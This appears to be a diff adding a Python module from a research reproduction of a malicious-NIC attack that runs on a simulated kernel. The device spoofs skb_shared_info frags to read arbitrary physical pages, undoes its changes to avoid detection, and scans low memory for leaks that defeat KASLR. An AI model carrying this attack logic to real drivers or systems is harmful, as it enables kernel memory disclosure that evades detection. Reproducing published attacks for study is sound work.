@@ -1,0 +1,135 @@
+"""Arbitrary-page surveillance via frags spoofing (section 5.5).
+
+"Instead of sending a TCP packet and letting the GRO layer fill in the
+frags information, the NIC can generate a small UDP packet and fill in
+the frags array with any arbitrary struct page addresses within the
+system. As a result, the driver maps these pages, providing READ
+access to the NIC for any page in the system."
+
+And the stability requirement: "To avoid detection and preserve OS
+stability, the device must undo the changes to skb_shared_info before
+creating a TX completion."
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+from typing import TYPE_CHECKING
+
+from repro.core.attacks.device import MaliciousDevice
+from repro.core.attacks.shared_info import clear_frags, spoof_frags
+from repro.core.attacks.window import open_rx_window_covering
+from repro.net.structs import SKB_SHARED_INFO, skb_shared_info_offset
+from repro.core.attributes import VulnerabilityAttributes
+from repro.errors import AttackFailed
+from repro.kaslr.layout import STRUCT_PAGE_SIZE
+from repro.mem.phys import PAGE_SIZE
+from repro.net.proto import PROTO_UDP, make_packet
+
+if TYPE_CHECKING:
+    from repro.net.nic import Nic
+    from repro.sim.kernel import Kernel
+
+#: Non-local destination that a forwarding victim will route outward.
+REMOTE_IP = 0x0B00_0042
+
+
+@dataclass
+class SurveillanceReport:
+    pages_read: dict[int, bytes] = field(default_factory=dict)
+    undone: bool = False
+    stage_log: list[str] = field(default_factory=list)
+
+
+def read_arbitrary_pages(kernel: "Kernel", nic: "Nic",
+                         device: MaliciousDevice, pfns: list[int], *,
+                         cpu: int = 0, undo: bool = True
+                         ) -> SurveillanceReport:
+    """Read up to 17 arbitrary physical pages through one spoofed packet.
+
+    Requires packet forwarding enabled on the victim and a recovered
+    ``vmemmap_base`` (one struct-page leak).
+    """
+    if device.knowledge.vmemmap_base is None:
+        raise AttackFailed("vmemmap_base unknown; cannot forge struct "
+                           "page pointers", stage="surveillance")
+    if len(pfns) > 17:
+        raise AttackFailed("at most MAX_SKB_FRAGS (17) pages per packet",
+                           stage="surveillance")
+    report = SurveillanceReport()
+    info_base = skb_shared_info_offset(nic.rx_buf_size)
+    frag0_off = SKB_SHARED_INFO.field("frags[0].page").offset
+    nr_frags_off = SKB_SHARED_INFO.field("nr_frags").offset
+    window = open_rx_window_covering(
+        kernel, nic, device,
+        lambda i: make_packet(dst_ip=REMOTE_IP, proto=PROTO_UDP,
+                              dst_port=53, flow_id=0x5100 + i,
+                              payload=b"\x00" * 32),
+        [(info_base + frag0_off, 16 * len(pfns)),
+         (info_base + nr_frags_off, 1)],
+        cpu=cpu)
+    entries = [(device.knowledge.vmemmap_base + pfn * STRUCT_PAGE_SIZE,
+                0, PAGE_SIZE) for pfn in pfns]
+    spoof_frags(window, nic.rx_buf_size, entries)
+    report.stage_log.append(
+        f"spoofed {len(entries)} frags into the forwarded skb")
+
+    # The victim forwards the skb; the driver maps every spoofed page.
+    kernel.stack.process_backlog()
+    for desc2, data in nic.device_fetch_tx(cpu=cpu, complete=False):
+        wire_len = desc2.linear_len
+        for i, (_iova, size) in enumerate(desc2.frag_iovas):
+            if i < len(pfns):
+                start = wire_len + sum(s for _1, s in desc2.frag_iovas[:i])
+                report.pages_read[pfns[i]] = data[start:start + size]
+        if undo:
+            # Stability: clear nr_frags before completing, or the free
+            # path trips over pages nobody accounted for.
+            clear_frags(window, nic.rx_buf_size)
+            report.undone = True
+        nic.device_complete_tx(desc2)
+    nic.tx_clean(cpu=cpu)
+    report.stage_log.append(
+        f"read {len(report.pages_read)} pages; undo={report.undone}, "
+        f"oopses so far: {kernel.stack.stats.oopses}")
+    return report
+
+
+def surveil_for_kaslr(kernel: "Kernel", nic: "Nic",
+                      device: MaliciousDevice, *, start_pfn: int = 64,
+                      max_pages: int = 340, cpu: int = 0) -> bool:
+    """Scan low physical memory for KASLR-breaking leaks.
+
+    Low-memory pages hold early slab allocations: SLUB freelists
+    (direct-map KVAs -> page_offset_base) and socket/namespace objects
+    (&init_net -> text base).
+    """
+    attrs = VulnerabilityAttributes()
+    pfn = start_pfn
+    scanned = 0
+    while scanned < max_pages and not (device.knowledge.text_base
+                                       and device.knowledge.page_offset_base):
+        batch = list(range(pfn, pfn + 17))
+        pfn += 17
+        scanned += 17
+        report = read_arbitrary_pages(kernel, nic, device, batch, cpu=cpu)
+        leaks = []
+        for page_pfn, data in report.pages_read.items():
+            leaks.extend(device.leak_scanner.scan(data))
+        device.try_recover_text_base(leaks)
+        if device.knowledge.page_offset_base is None:
+            from collections import Counter
+            votes: Counter[int] = Counter()
+            for leak in leaks:
+                if leak.region.name == "direct_map":
+                    base, _ = device.leak_scanner. \
+                        recover_bases_from_direct_map_leak(leak.value)
+                    votes[base] += 1
+            if votes:
+                device.knowledge.page_offset_base = \
+                    votes.most_common(1)[0][0]
+                device.knowledge.notes.append(
+                    f"page_offset_base via surveillance of "
+                    f"{scanned} low-memory pages")
+    return bool(device.knowledge.text_base
+                and device.knowledge.page_offset_base)
